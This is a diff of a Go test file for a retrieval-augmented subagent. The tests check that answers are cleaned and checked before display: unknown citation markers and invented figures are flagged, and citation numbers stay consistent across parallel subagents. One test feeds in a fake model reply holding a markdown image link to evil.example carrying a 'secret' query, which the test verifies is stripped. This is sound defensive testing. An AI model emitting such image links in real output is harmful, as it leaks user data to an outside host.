@@ -1,4 +1,4 @@
-package app
+package rag_test
 
 import (
 	"context"
@@ -13,7 +13,9 @@ import (
 	"github.com/stretchr/testify/require"
 
 	"mneme/memory"
+	"mneme/memory/event"
 	"mneme/memory/redistest"
+	"mneme/subagent"
 	"mneme/subagent/loop"
 	"mneme/subagent/rag"
 	"mneme/subagent/rag/chunk"
@@ -52,7 +54,7 @@ func (t *told) Result(_ memory.ToolCall, s string, _ bool) error {
 	return nil
 }
 
-func library(t *testing.T, texts map[string]string) *rag.Library {
+func loaded(t *testing.T, texts map[string]string) *rag.Library {
 	t.Helper()
 	l := rag.NewLibrary(docstore.New(redistest.Start(t).Client(), 0), rag.Options{Log: zerolog.Nop()})
 	c, err := docstore.Named(docstore.DefaultTenant, "docs")
@@ -66,32 +68,36 @@ func library(t *testing.T, texts map[string]string) *rag.Library {
 	return l
 }
 
-func ask(t *testing.T, d *desk, conversation, task string) (string, *told) {
-	t.Helper()
-	heard := &told{}
-	l := loop.Loop{Model: d, Tools: []loop.Tool{d.tool()}, MaxSteps: 4, Conversation: conversation}
-	r, err := l.Run(t.Context(), []memory.Message{{Role: memory.RoleUser, Content: task}}, heard)
-	assert.NoError(t, err)
-	assert.Equal(t, r.Text, heard.shown.String(), "what is shown is what counts")
-	return r.Text, heard
+// reader is a desk with a model at it.
+type reader struct {
+	subagent.Kit
+	model loop.Model
 }
 
-func turn(t *testing.T, l *rag.Library) *rag.Turn {
+func newReader(t *testing.T, turn *rag.Turn, m model) reader {
+	k := turn.Kit(zerolog.Nop())
+	return reader{k, k.Model(m)}
+}
+
+func ask(t *testing.T, r reader, conversation, task string) (string, *told) {
 	t.Helper()
-	turn, err := l.NewTurn(rag.TurnOptions{Tenant: docstore.DefaultTenant, Collections: []string{"docs"}})
-	require.NoError(t, err)
-	return turn
+	heard := &told{}
+	l := loop.Loop{Model: r.model, Tools: r.Tools, MaxSteps: 4, Conversation: conversation}
+	result, err := l.Run(t.Context(), []memory.Message{{Role: memory.RoleUser, Content: task}}, heard)
+	assert.NoError(t, err)
+	assert.Equal(t, result.Text, heard.shown.String(), "what is shown is what counts")
+	return result.Text, heard
 }
 
 // Whatever a model answers, nobody sees markers of nothing, images, foreign
 // addresses or a line for the machine; invented figures are named.
 func TestAnAnswerIsCheckedBeforeItIsShown(t *testing.T) {
-	l := library(t, map[string]string{"ferry": "A ferry ticket costs 14 crowns."})
+	l := loaded(t, map[string]string{"ferry": "A ferry ticket costs 14 crowns."})
 	said := ""
-	d := newDesk(turn(t, l), model(func(shown string) string {
+	d := newReader(t, newTurn(t, l, "", "docs"), model(func(shown string) string {
 		said = shown
 		return "It costs 14 crowns [1][9]. Children pay 3 crowns [1]. ![x](https://evil.example/?q=secret) See https://example.com/ferry.\nstatus: partial\nmissing: the way back"
-	}), zerolog.Nop())
+	}))
 	got, heard := ask(t, d, "c", "what does a ferry ticket cost")
 	require.Contains(t, said, "A ferry ticket costs 14 crowns.")
 	require.Contains(t, said, "nonce", "the model reads it in an envelope")
@@ -102,6 +108,15 @@ func TestAnAnswerIsCheckedBeforeItIsShown(t *testing.T) {
 	for _, no := range []string{"[9]", "evil", "status:", "nonce"} {
 		require.NotContains(t, got, no)
 	}
+	a := d.Answer(got)
+	require.Equal(t, event.Partial, a.Status)
+	require.Equal(t, []string{"the way back"}, a.Missing)
+	require.Equal(t, "It costs 14 crowns [1]. Children pay 3 crowns [1].  See https://example.com/ferry.", a.Answer)
+	require.Len(t, a.Citations, 1)
+	require.Equal(t, "A ferry ticket costs 14 crowns.", a.Citations[0].Quote)
+	require.Equal(t, len("A ferry ticket costs 14 crowns."), a.Citations[0].End)
+	require.Contains(t, a.Flags, event.Flag{Kind: "unverified", Text: "3"})
+	require.Contains(t, a.Flags, event.Flag{Kind: "unknown_marker", Text: "9"})
 	require.Len(t, heard.results, 1)
 	require.Contains(t, heard.results[0], "ferry#0")
 	require.NotContains(t, heard.results[0], "nonce", "a history keeps what was quoted only")
@@ -109,11 +124,38 @@ func TestAnAnswerIsCheckedBeforeItIsShown(t *testing.T) {
 
 // When nothing is found the model is not asked to make something up.
 func TestNothingFoundIsNotImprovised(t *testing.T) {
-	l := library(t, map[string]string{"ferry": "A ferry ticket costs 14 crowns."})
-	d := newDesk(turn(t, l), model(func(string) string { return "Certainly: 99 crowns [1]." }), zerolog.Nop())
+	l := loaded(t, map[string]string{"ferry": "A ferry ticket costs 14 crowns."})
+	d := newReader(t, newTurn(t, l, "", "docs"), model(func(string) string { return "Certainly: 99 crowns [1]." }))
 	got, _ := ask(t, d, "c", "zeppelin")
 	require.NotContains(t, got, "99")
 	require.NotEmpty(t, got)
+	require.Equal(t, event.NotFound, d.Answer(got).Status)
+}
+
+// Two subagents of one run number passages together, and neither can cite what
+// only the other was given.
+func TestNumbersAreOnePerRun(t *testing.T) {
+	l := loaded(t, map[string]string{"ferry": "A ferry ticket costs 14 crowns.", "bridge": "The bridge opens at two."})
+	quoting := model(func(shown string) string {
+		at := strings.Index(shown, `"n":`)
+		return fmt.Sprintf("So it is [%s]. And [%d].", shown[at+4:at+5], 3-int(shown[at+4]-'0'))
+	})
+	numbers := &rag.Numbers{}
+	seen := map[int]string{}
+	for _, task := range []string{"ferry ticket", "bridge", "ferry ticket"} {
+		turn, err := l.NewTurn(rag.TurnOptions{Tenant: docstore.DefaultTenant, Collections: []string{"docs"}, Numbers: numbers})
+		require.NoError(t, err)
+		d := newReader(t, turn, quoting)
+		got, _ := ask(t, d, "c", task)
+		a := d.Answer(got)
+		require.Len(t, a.Citations, 1, got)
+		require.Contains(t, a.Flags, event.Flag{Kind: "unknown_marker", Text: fmt.Sprint(3 - a.Citations[0].N)})
+		if before := seen[a.Citations[0].N]; before != "" {
+			require.Equal(t, before, a.Citations[0].DocID)
+		}
+		seen[a.Citations[0].N] = a.Citations[0].DocID
+	}
+	require.Equal(t, map[int]string{1: "ferry", 2: "bridge"}, seen)
 }
 
 // Isolated delegations of one run, at the same time, do not get into each other's
@@ -123,17 +165,17 @@ func TestDelegationsAtTheSameTime(t *testing.T) {
 	for i := range 8 {
 		texts[fmt.Sprintf("d%d", i)] = fmt.Sprintf("The word is token%d.", i)
 	}
-	d := newDesk(turn(t, library(t, texts)), model(func(shown string) string {
+	d := newReader(t, newTurn(t, loaded(t, texts), "", "docs"), model(func(shown string) string {
 		at := strings.Index(shown, "The word is token")
 		n := strings.Index(shown, `"n":`)
 		return fmt.Sprintf("%s [%s].", shown[at:at+len("The word is token0")], shown[n+4:n+5])
-	}), zerolog.Nop())
+	}))
 	var all sync.WaitGroup
 	for i := range 8 {
 		all.Go(func() {
 			got, _ := ask(t, d, fmt.Sprintf("run.knowledge.%d", i), fmt.Sprintf("what about token%d", i))
 			assert.Contains(t, got, fmt.Sprintf("token%d [", i))
-			citations := d.turn.Cite(got)
+			citations := d.Answer(got).Citations
 			assert.Len(t, citations, 1)
 			assert.Equal(t, fmt.Sprintf("d%d", i), citations[0].DocID)
 		})
